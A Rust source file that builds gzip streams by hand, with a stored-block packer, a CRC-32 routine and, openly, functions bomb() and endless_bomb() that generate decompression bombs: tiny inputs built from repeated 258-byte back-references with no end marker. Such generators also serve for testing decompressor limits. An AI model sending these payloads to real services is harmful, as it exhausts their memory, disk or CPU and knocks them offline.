//! gzip by hand (RFC 1951, RFC 1952): enough to pack small texts and to build a bomb.

const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// Returns a gzip file with at most 65,535 bytes that are stored without compression.
pub fn pack_stored(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).expect("one stored block");
    let mut packed = HEAD.to_vec();
    packed.push(1);
    packed.extend(length.to_le_bytes());
    packed.extend((!length).to_le_bytes());
    packed.extend(bytes);
    packed.extend(crc32(bytes).to_le_bytes());
    packed.extend(u32::from(length).to_le_bytes());
    packed
}

/// One space, then that many times 258 more of it (a multiple of 8), at 13 bits each, and no end.
pub fn bomb(repeats: usize) -> Vec<u8> {
    let packed = short_bomb(16);
    let (start, end) = packed.split_at(BOMB_START);
    [start, &cycle(&packed).repeat((repeats / 8).saturating_sub(2)), end].concat()
}

/// The start of a bomb, and what may follow it any number of times: some 20 MB of text each.
pub fn endless_bomb() -> (Vec<u8>, Vec<u8>) {
    let packed = short_bomb(16);
    (packed.split_at(BOMB_START).0.to_vec(), cycle(&packed).repeat(10_000))
}

/// The bytes up to the first one that belongs to repeats alone.
const BOMB_START: usize = HEAD.len() + 2;

/// Eight repeats are 13 bytes, and these come again and again.
fn cycle(packed: &[u8]) -> Vec<u8> {
    packed.get(BOMB_START..BOMB_START + 13).unwrap_or_default().to_vec()
}

fn short_bomb(repeats: usize) -> Vec<u8> {
    // The last block with fixed codes: a literal space (0x30 + 0x20), then "258 bytes, from one byte before".
    let start = [1, 1, 0].into_iter().chain(bits(0x50, 8));
    let repeat = || bits(0b1100_0101, 8).chain(bits(0, 5));
    let mut stream = start.chain((0..repeats).flat_map(|_| repeat()));
    let mut packed = HEAD.to_vec();
    loop {
        let byte: Vec<u8> = stream.by_ref().take(8).collect();
        if byte.is_empty() {
            return packed;
        }
        packed.push(byte.iter().rev().fold(0, |byte, bit| byte << 1 | bit));
    }
}

/// Returns the bits of a Huffman code, the highest bit first.
fn bits(code: u8, length: u8) -> impl Iterator<Item = u8> {
    (0..length).rev().map(move |at| code >> at & 1)
}

/// Returns the checksum CRC-32, which gzip and PNG use.
pub fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| crc >> 1 ^ if crc & 1 == 1 { 0xedb8_8320 } else { 0 })
    })
}
